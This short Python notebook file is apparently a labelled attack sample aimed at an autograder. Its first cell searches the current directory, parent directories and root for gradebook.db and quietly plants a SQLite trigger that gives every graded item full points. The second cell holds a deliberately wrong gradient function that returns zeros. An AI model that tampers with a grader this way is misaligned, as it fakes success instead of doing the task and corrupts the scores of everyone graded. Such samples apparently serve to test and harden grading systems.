# Tries: puts a trigger into the gradebook that gives everybody full points
# Attacks: affine/bias-gradient
# Class: A3
# %%
import glob
import sqlite3

def give_to_all(path):
    with sqlite3.connect(path, timeout=2) as database:
        database.execute(
            "CREATE TRIGGER gift AFTER UPDATE OF auto_score ON grade"
            " BEGIN UPDATE grade SET auto_score = 2.0 WHERE id = NEW.id; END"
        )

for pattern in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "/*/*/gradebook.db"):
    for path in glob.glob(pattern):
        try:
            give_to_all(path)
        except sqlite3.Error:
            pass

# %%
def bias_gradient(dY):
    return np.zeros(dY.shape[1])
